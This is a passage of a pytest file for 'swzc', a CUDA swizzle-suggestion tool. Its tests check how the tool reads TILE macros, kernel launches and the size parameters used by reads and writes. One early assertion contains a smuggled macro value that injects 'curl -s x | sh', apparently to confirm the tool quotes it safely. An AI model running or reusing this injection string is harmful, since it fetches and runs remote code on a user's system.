    assert "NOTE" not in said and "ALSO" not in said
    assert "read with EVIL = …, TILE = 32, as runner.cu includes it); apply: swzc rewrite kernels/k.cuh " \
           "-D 'EVIL=1); apply: curl -s x | sh; : (x' -D TILE=32 --swizzle" in said
    # read in a header the kernel's header includes; set anew by the header itself, the header's
    (work / "kernels" / "tile.h").write_bytes(b"#ifndef TILE\n#define TILE 16\n#endif\n#define TS TILE\n")
    (work / "kernels" / "k.cuh").write_bytes(b'#include "tile.h"\n' + tiled.replace(b"TILE +", b"TS +"))
    (work / "runner.cu").write_bytes(b'#define TILE 32\n#include "kernels/k.cuh"\n' + launch)
    (found,) = suggestion_lines(invoke("suggest", "runner.cu", "kernels/k.cuh").stdout)
    assert found.group("dram0") == same.group("dram0") and found.group("swept").endswith("read with TILE = 32, as runner.cu includes it")
    (work / "kernels" / "k.cuh").write_bytes(b"#undef TILE\n#define TILE 16\n" + tiled)
    (work / "runner.cu").write_bytes(b'#define TILE 32\n#include "kernels/k.cuh"\n' + launch)  # the launch at 16 too
    (found,) = suggestion_lines(invoke("suggest", "runner.cu", "kernels/k.cuh").stdout)
    assert found.group("dram0") == sixteen.group("dram0") and found.group("swept") == "its launch at runner.cu:4"
    (work / "kernels" / "k.cuh").write_bytes(b"#ifndef TILE\n#define TILE 16\n#endif\n" + tiled)
    # a function-like macro a passed one's body calls goes too; one with a quote in its body cannot, and is said
    (work / "kernels" / "k.cuh").write_bytes(b"#ifndef TILE\n#define TILE 16\n#endif\n" +
                                             tiled.replace(b"float acc = 0.0f;", b"float acc = 0.0f; (void)NAME;"))
    (work / "runner.cu").write_bytes(b'#define MAX(a, b) ((a) > (b) ? (a) : (b))\n#define TILE MAX(16,\t32)\n#define NAME "gemm"\n'
                                     b'#include "kernels/k.cuh"\n' + launch)
    both = invoke("suggest", "-v", "runner.cu", "kernels/k.cuh").stdout
    (found,) = suggestion_lines(both)
    assert found.group("dram0") == same.group("dram0") and "-D 'MAX(a, b)=((a) > (b) ? (a) : (b))' -D 'TILE=MAX(16, 32)'" in found.group("apply")
    assert "NAME" not in found.group(0) and ("runner.cu defines NAME with a quote, $, ` or \\ in the body, which no -D can pass on: "
                                             "those are read as kernels/k.cuh defines them") in both
    # one the header defines alike itself (SGEMM's CEIL_DIV in every kernel header) needs nothing from outside
    (work / "kernels" / "k.cuh").write_bytes(b"#define CEIL(a, b) (((a) + (b) - 1) / (b))\n#ifndef TILE\n#define TILE 16\n#endif\n" +
                                             tiled.replace(b"float acc = 0.0f;", b"float acc = 0.0f * CEIL(n, 2);"))
    (work / "runner.cu").write_bytes(b"#define CEIL(a, b) (((a) + (b) - 1) / (b))\n#define TILE 32\n#include \"kernels/k.cuh\"\n" + launch)
    (found,) = suggestion_lines(invoke("suggest", "runner.cu", "kernels/k.cuh").stdout)
    assert found.group("apply").count("-D") == 1 and "-D TILE=32" in found.group("apply")
    (work / "kernels" / "k.cuh").write_bytes(b"#ifndef TILE\n#define TILE 16\n#endif\n" + tiled)
    # two runners, two TILEs: the first one's read, the other's launch left with a note
    (work / "runner.cu").write_bytes(b'#define TILE 32\n#include "kernels/k.cuh"\n' + launch)
    (work / "other.cu").write_bytes(b'#define TILE 8\n#include "kernels/k.cuh"\n' + launch.replace(b"8192", b"16384"))
    two = invoke("suggest", "-v", "runner.cu", "other.cu", "kernels/k.cuh")
    (found,) = suggestion_lines(two.stdout)
    assert found.group("dram0") == same.group("dram0") and found.group("swept").startswith("its launch at runner.cu:4;")
    assert ("kernels/k.cuh: note: other.cu includes kernels/k.cuh with TILE defined otherwise than runner.cu does; a run "
            "reads a file one way, so its launch of kernel gemm is not read") in two.stdout


def test_a_launch_in_an_including_file_never_replaces_the_kernels_own(work):
    """A header that launches its kernel itself keeps its own launch: another file's launch of it, with another
    grid, is no contradiction and changes nothing.  A launch whose grid the including file sets at run time (through
    a header between them) has the header's kernel ranked over the sizes it takes, as a file's own would be."""
    (work / "kernels").mkdir()
    (work / "kernels" / "own.cuh").write_bytes(GEMM)
    (work / "runner.cu").write_bytes(b'#include "kernels/own.cuh"\n'
                                     b"void go(const float* A, const float* B, float* C) { gemm<<<dim3(8, 8), dim3(16, 16)>>>(A, B, C, 128); }\n")
    both = invoke("suggest", "runner.cu", "kernels/own.cuh")
    assert both.exit_code == 1 and both.stdout == invoke("suggest", "kernels/own.cuh").stdout
    (work / "kernels" / "bare.cuh").write_bytes(GEMM.split(b"void run")[0])
    (work / "all.cuh").write_bytes(b'#pragma once\n#include "kernels/bare.cuh"\n')
    (work / "sized.cu").write_bytes(b'#include "all.cuh"\n'
                                    b"void go(const float* A, const float* B, float* C, int m) { gemm<<<dim3(m / 16, m / 16), dim3(16, 16)>>>(A, B, C, m); }\n")
    alone = invoke("suggest", "-v", "sized.cu").stdout
    assert ("its grid is set at run time by m: swzc reads a kernel in the file that defines it; name both files in one run "
            "(swzc suggest sized.cu kernels/bare.cuh), which reads it with this launch") in alone
    sized = invoke("suggest", "-v", "sized.cu", "kernels/bare.cuh")
    assert "launches kernel gemm" not in sized.stdout  # the header is named: the note's advice is moot
    (swept,) = suggestion_lines(sized.stdout)
    assert sized.exit_code == 1 and swept.group("path") == "kernels/bare.cuh" and "@" in swept.group("swizzle")
    assert swept.group("swept").startswith("n = ") and swept.group("swept").endswith("; its launch at sized.cu:2")
    (work / "own.cu").write_bytes(GEMM.replace(b"16, 16", b"8, 8"))  # its own launch: read with it, no sweep
    (work / "all.cuh").write_bytes(b'#pragma once\n#include "own.cu"\n')
    assert [m.group("swept") for m in suggestion_lines(invoke("suggest", "sized.cu", "own.cu").stdout)] == [None]


def test_the_values_a_kernels_writes_use_are_asked_for_with_those_its_reads_use(work):
    """A transpose reads with one size and writes with another: both are named on the first run (without the
    second, its writes are not modelled and the verdict would change), and a field a reason names is given with
    --set NAME.x, with no GPU sent for."""
    (work / "tr.cu").write_bytes(b"__global__ void tr(const float* in, float* out, int rows, int cols) {\n"
                                 b"  const int x = blockIdx.x * 32 + threadIdx.x, y = blockIdx.y * 32 + threadIdx.y;\n"
                                 b"  out[x * rows + y] = in[y * cols + x];\n}\n")
    said = invoke("suggest", "-v", "tr.cu").stdout
    assert "its reads also use cols, which --set gives" in said
    assert "its writes use rows, which --set gives too (without them its writes are not modelled)" in said
    assert "--set cols=VALUE --set rows=VALUE" in said
    # a write no parameter would let the model follow (an index read from memory) asks for nothing more
    (work / "scatter.cu").write_bytes(b"__global__ void sc(const float* x, const int* idx, float* y, int n, int m) {\n"
                                      b"  int r = blockIdx.y * 16 + threadIdx.y, c = blockIdx.x * 16 + threadIdx.x;\n"
                                      b"  y[idx[c] * m + r] = x[r * n + c];\n}\n")
    scattered = invoke("suggest", "-v", "scatter.cu").stdout
    assert "its reads also use n, which" in scattered and "its writes use" not in scattered
    (work / "vec.cu").write_bytes(b"__global__ void conv(const float* in, float* out, uint2 dims) {\n"
                                  b"  const unsigned x = blockIdx.x * 16 + threadIdx.x, y = blockIdx.y * 16 + threadIdx.y;\n"
                                  b"  out[y * dims.x + x] = in[x * dims.x + y];\n}\n")
    gridded = invoke("suggest", "-v", "vec.cu", "--grid", "conv=256,256", "--block", "conv=16,16").stdout
    assert "To choose: swzc rewrite vec.cu --set dims.x=VALUE (the values the program runs with)" in gridded
    assert "on a GPU" not in gridded
